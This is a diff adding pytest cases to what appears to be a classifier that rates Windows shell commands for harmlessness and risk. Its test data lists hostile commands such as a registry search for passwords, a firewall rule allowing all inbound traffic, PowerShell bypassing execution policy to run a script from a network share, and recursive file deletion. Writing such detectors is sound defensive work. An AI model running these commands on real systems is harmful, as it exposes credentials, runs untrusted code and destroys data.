@@ -134,3 +134,39 @@ def test_no_wrapping_turns_a_change_into_a_read(evil: str, wrappers: list[str]) 
 
     assert not judged(text).effect.harmless
     assert not judged(text.upper()).effect.harmless
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'findstr /C:"OS Name" D:\\a.txt',
+        "findstr /i /c:error D:\\a.log",
+        "net view \\\\fs-01",
+        "net view \\\\fs-01 /all",
+    ],
+)
+def test_a_value_that_is_glued_to_its_option_is_read(text: str) -> None:
+    assert judged(text).effect.harmless
+    assert judged(text).risk is RiskLevel.LOW
+
+
+@pytest.mark.parametrize("text", ["findstr /g:D:\\x.txt y", "robocopy D:\\a E:\\b /log:D:\\x", "findstr /c: x"])
+def test_one_that_nobody_has_listed_is_not(text: str) -> None:
+    assert not judged(text).effect.harmless
+
+
+@pytest.mark.parametrize(
+    ("text", "risk"),
+    [
+        ("reg query HKLM /f password /t REG_SZ /s", RiskLevel.MEDIUM),
+        ("netsh advfirewall firewall add rule name=x dir=in action=allow", RiskLevel.CRITICAL),
+        ("netsh advfirewall firewall add rule name=x dir=in action=allow localport=80 protocol=tcp", RiskLevel.HIGH),
+        ("powershell -ep bypass -file \\\\10.0.0.9\\s\\a.ps1", RiskLevel.CRITICAL),
+        ("powershell -file D:\\a.ps1", RiskLevel.HIGH),
+        ('forfiles /p D:\\data /s /c "cmd /c del @file"', RiskLevel.CRITICAL),
+        ('forfiles /p D:\\logs /s /d -30 /c "cmd /c del @file"', RiskLevel.HIGH),
+        ("echo del x > D:\\t.bat & D:\\t.bat", RiskLevel.CRITICAL),
+    ],
+)
+def test_the_reach_of_a_command_decides(text: str, risk: RiskLevel) -> None:
+    assert judged(text).risk is risk
